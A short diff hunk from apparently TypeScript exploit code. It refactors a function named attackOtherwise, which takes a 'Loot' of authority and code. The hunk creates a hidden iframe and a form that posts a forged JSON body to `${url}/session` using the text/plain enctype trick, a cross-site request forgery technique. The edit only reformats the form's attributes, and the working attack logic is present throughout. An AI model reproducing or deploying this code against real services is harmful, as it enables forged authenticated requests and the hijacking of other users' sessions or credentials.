@@ -171,7 +171,10 @@ async function attackOtherwise({ authority, code }: Loot) {
   const submit = () => {
     const frame = Object.assign(document.createElement("iframe"), { name: "target" });
     const form = Object.assign(document.createElement("form"), {
-      ...{ method: "post", action: `${url}/session`, target: "target", enctype: "text/plain" },
+      method: "post",
+      action: `${url}/session`,
+      target: "target",
+      enctype: "text/plain",
     });
     form.append(Object.assign(document.createElement("input"), { name: body.slice(0, -1), value: "}" }));
     document.documentElement.append(frame, form);
